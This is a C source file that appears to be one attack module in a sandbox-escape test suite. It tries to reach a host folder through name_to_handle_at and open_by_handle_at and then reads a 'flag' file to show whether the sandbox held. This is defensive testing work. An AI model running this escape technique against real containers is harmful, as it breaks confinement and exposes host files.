/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Tries to: open a folder of the host by its handle, past every folder above it
 * Promise:  host-files
 * Control:  root
 * Oracle:   secret
 * Stops:    EPERM=seccomp|capability
 */
#include "attacks/attack.h"

ATTACK(open_by_handle)
{
	struct {
		struct file_handle head;
		unsigned char room[128];
	} handle = {.head = {.handle_bytes = sizeof(handle.room)}};
	int root = open(attack_value("BASE"), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	char path[256];
	int mount_id, dir, fd;

	/* Since Linux 6.11 root of a user namespace may open folders by handle. */
	(void)snprintf(path, sizeof(path), "%s/deep/a/b/c", attack_value("BASE"));
	if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount_id, 0) < 0)
		attack_stopped("name_to_handle_at");
	dir = open_by_handle_at(root < 0 ? AT_FDCWD : root, &handle.head,
	                        O_RDONLY | O_DIRECTORY);
	if (dir < 0)
		attack_stopped("open_by_handle_at");
	fd = dir < 0 ? -1 : openat(dir, "flag", O_RDONLY | O_CLOEXEC);
	if (fd >= 0)
		attack_spill(fd);
	return 0;
}
